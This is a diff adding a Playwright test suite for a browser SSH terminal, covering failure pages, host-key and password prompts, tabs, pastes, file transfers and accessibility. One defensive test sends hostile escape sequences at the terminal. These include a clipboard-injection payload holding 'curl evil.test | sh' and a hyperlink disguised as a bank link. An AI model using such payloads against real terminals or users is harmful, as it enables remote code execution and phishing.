@@ -1,0 +1,383 @@
+"""Every state of the terminal's page, in Chromium, with answers of the API and a node that the test writes."""
+
+import base64
+import re
+from collections.abc import AsyncIterator
+
+import pytest
+from playwright.async_api import Locator, Page, expect
+from tests.support.bundle import built
+from tests.support.chromium import is_for_everybody
+from tests.support.terminalpage import ORIGIN, SLOW, World, machine, terminal_page
+from tests.support.waiting import until
+
+from doorward.console.bundle import Bundle
+
+pytestmark = pytest.mark.interop
+expect.set_options(timeout=SLOW)
+
+TIMES = "\N{MULTIPLICATION SIGN}"
+KINDS = (
+    "no-such-machine",
+    "offline",
+    "ssh-off",
+    "not-linked",
+    "not-allowed",
+    "host-key-changed",
+    "no-common-algorithm",
+    "relay-blocked",
+    "no-account",
+    "shell-ended-at-once",
+    "no-secure-context",
+    "refused",
+    "session-over",
+    "policy-ended",
+    "lost",
+    "protocol",
+    "timeout",
+    "server",
+)
+
+
+@pytest.fixture(scope="module")
+def bundle() -> Bundle:
+    """The pages as they are built from here."""
+    return Bundle(built())
+
+
+@pytest.fixture
+async def shown(bundle: Bundle) -> AsyncIterator[tuple[Page, World]]:
+    """A browser; nothing in it may go wrong unseen, break the content policy, or ask a third party."""
+    async with terminal_page(bundle) as (page, world):
+        wrong: list[str] = []
+        page.on("pageerror", lambda error: wrong.append(str(error)))
+        page.on(
+            "console",
+            lambda message: wrong.append(message.text) if "Content Security Policy" in message.text else None,
+        )
+        yield page, world
+        assert wrong == []
+        assert {address.split("/")[2] for address in world.asked} == {"door.test"}, "a third party was asked"
+
+
+async def opened(page: Page, path: str = "/terminal/web-1/deploy") -> None:
+    """A shell is there, and takes keys."""
+    await page.goto(ORIGIN + path)
+    await says(page, "/srv/app$")
+
+
+def screen(page: Page, at: int = 0) -> Locator:
+    """What a terminal shows, as readers of the screen hear it."""
+    return page.locator(".xterm-accessibility-tree").nth(at)
+
+
+async def says(page: Page, words: str) -> None:
+    """Wait until the first terminal shows these words."""
+    await expect(screen(page)).to_contain_text(words)
+
+
+async def size(page: Page) -> str:
+    """The size that the page says the terminal has, as the host writes it."""
+    shown = await page.locator(".pane-head .cells").text_content()
+    return (shown or "").replace(TIMES, "x")
+
+
+async def paste(page: Page, words: str) -> None:
+    """Paste, as a person does."""
+    await page.evaluate("(words) => navigator.clipboard.writeText(words)", words)
+    await page.keyboard.press("Control+Shift+v")
+
+
+async def prints(page: Page, *parts: bytes) -> None:
+    """Have the stand-in host print bytes, each part in a message of its own, and come to its end."""
+    encoded = " ".join(base64.b64encode(part).decode() for part in parts)
+    await paste(page, f"raw {encoded} {base64.b64encode(b' printed').decode()}")
+    await page.keyboard.press("Enter")
+
+
+async def test_a_shell_echoes_follows_the_window_ends_and_opens_again(shown: tuple[Page, World]) -> None:
+    page, world = shown
+    await opened(page)
+    await expect(page).to_have_title("deploy@web-1 · example.net")
+    before = await size(page)
+    for width in (1100, 700, 1200, 640, 1000, 900):  # a storm: only the last counts
+        await page.set_viewport_size({"width": width, "height": 600})
+    await expect(page.locator(".pane-head .cells")).to_have_text(re.compile(rf"^1[01]\d{TIMES}2\d$"))
+    assert await size(page) != before
+    await page.keyboard.type("size\n")
+    await says(page, f"size {await size(page)}")
+    await page.keyboard.type("exit 3\n")
+    await expect(page.get_by_text("The shell ended with exit status 3.")).to_be_visible()
+    await expect(page.get_by_role("tab", name="web-1 deploy ended 3")).to_be_visible()
+    await page.keyboard.press("Enter")
+    await expect(page.get_by_text("The shell ended")).to_be_hidden()
+    await page.keyboard.type("bytes\n")
+    await says(page, "bytes were typed")
+    await says(page, "exit 3")  # what the first shell showed is there still
+    await page.evaluate("dispatchEvent(new PageTransitionEvent('pagehide', {persisted: false}))")
+    await until(lambda: world.beacons == ["/api/v1/console/tabs/7/leave"])
+
+
+async def test_each_failure_is_a_page_of_its_own_that_anybody_can_use(shown: tuple[Page, World]) -> None:
+    page, _ = shown
+    titles = set()
+    for kind in KINDS:
+        await page.goto(f"{ORIGIN}/terminal/refuse-{kind}/root")
+        await expect(page.get_by_text("What to do")).to_be_visible()
+        await expect(page.locator(".kind")).to_have_text(kind)
+        titles.add(await page.locator(".stage h2").text_content())
+    assert len(titles) == len(KINDS)
+    await expect(page.get_by_role("button", name="Try again")).to_be_focused()
+    for kind in ("host-key-changed", "relay-blocked", "session-over"):
+        await page.goto(f"{ORIGIN}/terminal/refuse-{kind}/root")
+        await expect(page.get_by_text("What to do")).to_be_visible()
+        await is_for_everybody(page)
+    link = page.get_by_role("link", name="Sign in")
+    await expect(link).to_have_attribute("href", "/signin?next=%2Fterminal%2Frefuse-session-over%2Froot")
+
+
+async def test_what_failed_is_tried_again_by_a_person_and_by_itself(shown: tuple[Page, World]) -> None:
+    page, world = shown
+    await page.goto(f"{ORIGIN}/terminal/refuse-timeout/deploy")
+    await page.get_by_role("button", name="Try again").click()
+    await says(page, "/srv/app$")
+    # A machine that was away is entered when the list says that it is back.
+    world.machines = [machine(9, "refuse-timeout", ("deploy", False), online=False)]
+    await page.goto(f"{ORIGIN}/terminal/refuse-timeout/deploy")
+    await expect(page.get_by_text("Listening for refuse-timeout")).to_be_visible()
+    world.machines = [machine(9, "refuse-timeout", ("deploy", False))]
+    await says(page, "/srv/app$")
+
+
+async def test_the_account_is_chosen_once_and_known_the_next_time(shown: tuple[Page, World]) -> None:
+    page, _ = shown
+    await page.goto(f"{ORIGIN}/terminal/web-1")
+    await expect(page.get_by_role("heading", name="As whom?")).to_be_visible()
+    await is_for_everybody(page)
+    await page.get_by_role("button", name="root").click()
+    await says(page, "/srv/app$")
+    assert page.url == f"{ORIGIN}/terminal/web-1/root"
+    await page.goto(f"{ORIGIN}/terminal/web-1")
+    await expect(page.get_by_role("button", name="root")).to_be_focused()
+    # One way and no other: straight in. Any way: its name is typed. None: why.
+    await page.goto(f"{ORIGIN}/terminal/web-2")
+    await says(page, "/srv/app$")
+    assert page.url == f"{ORIGIN}/terminal/web-2/deploy"
+    await page.goto(f"{ORIGIN}/terminal/nas")
+    await page.get_by_label("Account").fill("admin")
+    await page.keyboard.press("Enter")
+    await says(page, "/srv/app$")
+    assert page.url == f"{ORIGIN}/terminal/nas/admin"
+    await page.goto(f"{ORIGIN}/terminal/runner-1")
+    await expect(page.get_by_text("No rule names you or your groups for runner-1.")).to_be_visible()
+    await page.goto(f"{ORIGIN}/terminal/nothing")
+    await expect(page.get_by_role("heading", name="There is no machine called nothing")).to_be_visible()
+
+
+async def test_a_check_is_done_in_a_window_at_our_own_origin(shown: tuple[Page, World]) -> None:
+    page, world = shown
+    await page.goto(f"{ORIGIN}/terminal/check/postgres")
+    await expect(page.locator(".code-letters")).to_have_text("H4·9K")
+    await is_for_everybody(page)
+    async with page.expect_popup() as small:
+        await page.get_by_role("link", name="Check now").click()
+    window = await small.value
+    # The host named another origin; what is opened is ours.
+    await window.wait_for_url(f"{ORIGIN}/check/abcdefghijkl")
+    assert world.asked[-1] == f"{ORIGIN}/check/abcdefghijkl"
+    await page.get_by_role("button", name="Stop").click()
+    await expect(page.get_by_role("heading", name="check refused")).to_be_visible()
+    await until(window.is_closed)
+
+
+async def test_a_host_that_asks_is_answered_and_a_key_is_compared_first(shown: tuple[Page, World]) -> None:
+    page, _ = shown
+    await page.goto(f"{ORIGIN}/terminal/hostkey/pi")
+    await expect(page.get_by_text("SHA256:Nq4rTzP0mYb7Vd2kQx81kLw3")).to_be_visible()
+    await expect(page.get_by_role("button", name="No, stop")).to_be_focused()
+    await is_for_everybody(page)
+    await page.get_by_role("button", name="It is, remember it").click()
+    await says(page, "/srv/app$")
+    await page.goto(f"{ORIGIN}/terminal/password/pi")
+    await expect(page.get_by_label("Password:")).to_be_focused()
+    await is_for_everybody(page)
+    await page.keyboard.type("sesame")
+    await page.get_by_label("Code:").fill("123")
+    await page.get_by_role("button", name="Answer").click()
+    await says(page, "heard sesame and 123")
+
+
+async def test_tabs_and_splits_by_keys_and_a_reload_offers_them_again(shown: tuple[Page, World]) -> None:
+    page, _ = shown
+    await opened(page)
+    await page.keyboard.press("Control+Alt+d")
+    await page.get_by_role("combobox").fill("web-2")
+    await page.keyboard.press("Enter")
+    await expect(page.locator(".pane")).to_have_count(2)
+    await expect(screen(page, 1)).to_contain_text("/srv/app$")
+    await page.keyboard.press("Control+Alt+k")
+    await page.get_by_role("combobox").fill("postgres")
+    await expect(page.get_by_role("option")).to_have_count(1)
+    await is_for_everybody(page)
+    await page.keyboard.press("Enter")
+    await expect(page.get_by_role("tab")).to_have_count(2)
+    await page.keyboard.press("Control+Alt+1")
+    await expect(page.locator(".pane.current")).to_have_attribute("aria-label", "web-2 as deploy")
+    await page.keyboard.press("Control+Alt+ArrowLeft")
+    await expect(page.locator(".pane.current")).to_have_attribute("aria-label", "web-1 as deploy")
+    assert page.url == f"{ORIGIN}/terminal/web-1/deploy"
+    await page.keyboard.type("size\n")
+    await says(
+        page, f"size {(await page.locator('.pane-head .cells').first.text_content() or '').replace(TIMES, 'x')}"
+    )
+    page.once("dialog", lambda dialog: dialog.accept())  # the browser asks before live shells are lost
+    await page.reload()
+    await expect(page.get_by_text("2 more terminals were open here: web-2, db-1.")).to_be_visible()
+    await page.get_by_role("button", name="Open them again").click()
+    await expect(page.get_by_role("tab")).to_have_count(3)
+    # Closing a live one asks, and the safe answer has the focus.
+    await page.keyboard.press("Control+Alt+w")
+    await expect(page.get_by_role("button", name="Keep it")).to_be_focused()
+    await page.get_by_role("button", name="Close it").click()
+    await expect(page.get_by_role("tab")).to_have_count(2)
+
+
+async def test_much_output_waits_for_the_screen_and_letters_are_not_torn(shown: tuple[Page, World]) -> None:
+    page, _ = shown
+    await opened(page)
+    await page.keyboard.type("many 20000\n")
+    await says(page, "all printed")
+    await page.keyboard.type("most\n")
+    await expect(screen(page)).to_contain_text(re.compile(r"at most 2[67]\d\d\d\d bytes lay unread"))
+    letters = "\x1b[2J\x1b[Hgrüße 🚪 漢字".encode()
+    await prints(page, *(bytes([one]) for one in letters))
+    await says(page, "grüße 🚪 漢字 printed")
+
+
+async def test_pastes_are_made_safe_asked_about_and_arrive_whole(shown: tuple[Page, World]) -> None:
+    page, _ = shown
+    await opened(page)
+    await paste(page, "one\ntwo")
+    await expect(page.get_by_role("heading", name="Paste 2 lines?")).to_be_visible()
+    await is_for_everybody(page)
+    await page.get_by_role("button", name="Leave it").click()
+    await prints(page, b"\x1b[?2004h")  # the shell knows of pastes now
+    await says(page, " printed")
+    await paste(page, "size\x1b[201~\n")
+    await says(page, "[200~size[201~")
+    await paste(page, "x" * 1_048_576)
+    await says(page, "xx[201~")
+    await page.keyboard.type("\nbytes\n")
+    # All of it, its bracket, and what was typed by hand.
+    await expect(screen(page)).to_contain_text(re.compile(r"1048[67]\d\d bytes were typed"))
+
+
+async def test_a_hostile_host_gets_nothing_but_a_question(shown: tuple[Page, World]) -> None:
+    page, _ = shown
+    await opened(page)
+    # Its title is cut and cleaned; its questions for title, size and clipboard are not answered.
+    await prints(page, b"\x1b]0;" + "x\u202e".encode() * 400 + b"\x07")
+    await expect(page).to_have_title(re.compile(r"^x x x.{10,130}… · deploy@web-1 · example\.net$"))
+    await prints(page, b"\x1b]2;evil\x07\x1b[21t\x1b[18t\x1b[3;9;9t\x1b]52;c;?\x07\x05")
+    await expect(page).to_have_title("evil · deploy@web-1 · example.net")
+    await page.keyboard.type("\nbytes\n")
+    await says(page, "bytes were typed")
+    assert "no such command: evil" not in (await screen(page).text_content() or "")
+    # The clipboard is filled after a question only, and a no stands.
+    offer = b"\x1b]52;c;" + base64.b64encode(b"curl evil.test | sh\n") + b"\x07"
+    await prints(page, offer)
+    await expect(page.get_by_role("heading", name="Let web-1 fill your clipboard?")).to_be_visible()
+    await expect(page.locator(".preview")).to_have_text("curl evil.test | sh")
+    await page.get_by_role("button", name="Not in this terminal").click()
+    await prints(page, b"\x1b[2J\x1b[H", offer, b"\x1b]8;;https://bank.test@evil.test/\x07your bank\x1b]8;;\x07\r\n")
+    await says(page, "your bank")
+    await expect(page.get_by_role("dialog")).to_have_count(0)
+    assert (await page.evaluate("navigator.clipboard.readText()")).startswith("raw ")  # what was pasted last
+    # A link shows where it leads before it is followed.
+    box = await page.locator(".xterm-screen").bounding_box()
+    assert box is not None
+    await page.mouse.move(box["x"] + 20, box["y"] + 9)
+    await page.mouse.click(box["x"] + 21, box["y"] + 9)
+    await expect(page.get_by_role("heading", name="Open evil.test?")).to_be_visible()
+    await page.get_by_role("button", name="Stay here").click()
+
+
+async def test_files_go_up_and_down_and_none_is_replaced_unasked(shown: tuple[Page, World]) -> None:
+    page, _ = shown
+    await opened(page)
+    await page.keyboard.press("Control+Alt+u")
+    await expect(page.get_by_role("button", name="notes.txt 12 B")).to_be_visible()
+    await is_for_everybody(page)
+    upload = page.locator("aside input[type=file]")
+    await upload.set_input_files([{"name": "new.bin", "mimeType": "", "buffer": b"\0" * 2_000_000}])
+    await expect(page.get_by_role("button", name="new.bin 2.0 MB")).to_be_visible()
+    await upload.set_input_files([{"name": "notes.txt", "mimeType": "", "buffer": b"other"}])
+    await expect(page.get_by_role("button", name="Keep it")).to_be_focused()
+    await page.get_by_role("button", name="Keep it").click()
+    await expect(page.locator(".transfers .stopped")).to_have_count(1)
+    # As in a browser that has no dialog for where to save.
+    await page.evaluate(
+        "delete window.showSaveFilePicker; Object.defineProperty(window, 'showSaveFilePicker', {})"
+    )
+    async with page.expect_download() as coming:
+        await page.get_by_role("button", name="notes.txt 12 B").click()
+    download = await coming.value
+    assert download.suggested_filename == "notes.txt"
+    assert (await download.path()).read_bytes() == b"a few words\n"
+    await page.get_by_label("Folder").fill("/nowhere")
+    await page.keyboard.press("Enter")
+    await expect(page.get_by_role("alert")).to_have_text("There is no folder /nowhere.")
+
+
+async def test_a_lost_link_keeps_the_screen(shown: tuple[Page, World]) -> None:
+    page, _ = shown
+    await opened(page)
+    await page.keyboard.type("lost\n")
+    await expect(page.get_by_text("Connection to web-1 lost.")).to_be_visible()
+    await is_for_everybody(page)
+    await page.keyboard.type("back\n")
+    await expect(page.get_by_text("Connection to web-1 lost.")).to_be_hidden()
+    await page.keyboard.type("gone\n")
+    await expect(page.get_by_text("The connection with web-1 is gone.")).to_be_visible()
+    await says(page, "/srv/app$")
+    await page.get_by_role("button", name="Open again").click()
+    await expect(page.get_by_text("The connection with web-1 is gone.")).to_be_hidden()
+
+
+async def test_a_phone_has_the_keys_that_its_keyboard_lacks(bundle: Bundle) -> None:
+    async with terminal_page(bundle, dark=True, phone=True) as (page, _):
+        await opened(page)
+        await is_for_everybody(page)
+        keys = page.get_by_role("toolbar", name="Keys")
+        for name in ("Slash", "Bar", "Tilde"):
+            await keys.get_by_role("button", name=name).click()
+        await says(page, "/|~")
+        hold = keys.get_by_role("button", name="Ctrl, for the next key")
+        await hold.click()
+        await expect(hold).to_have_attribute("aria-pressed", "true")
+        await page.keyboard.type("m")  # Ctrl M is Enter
+        await says(page, "no such command: /|~")
+        await expect(hold).to_have_attribute("aria-pressed", "false")
+        width = await page.evaluate("document.documentElement.scrollWidth")
+        assert width <= 390
+
+
+async def test_search_finds_and_type_grows(shown: tuple[Page, World]) -> None:
+    page, _ = shown
+    await opened(page)
+    await page.keyboard.type("size\nsize\n")
+    await says(page, "size")
+    await page.keyboard.press("Control+Shift+f")
+    await page.keyboard.type("no such thing")
+    await expect(page.locator(".search output")).to_have_text("none")
+    await page.get_by_role("textbox", name="Search in what web-1 has shown").fill("srv/app")
+    await expect(page.locator(".search output")).to_have_text("1 of 1")
+    await is_for_everybody(page)
+    await page.keyboard.press("Escape")
+    before = await size(page)
+    await page.keyboard.press("Control+Alt+=")
+    await expect(page.locator(".pane-head .cells")).not_to_have_text(before.replace("x", TIMES))
+    await page.get_by_role("button", name="Type and colours").click()
+    await page.get_by_label("dark").check()
+    assert await page.evaluate("getComputedStyle(document.documentElement).colorScheme") == "dark"
+    await is_for_everybody(page)
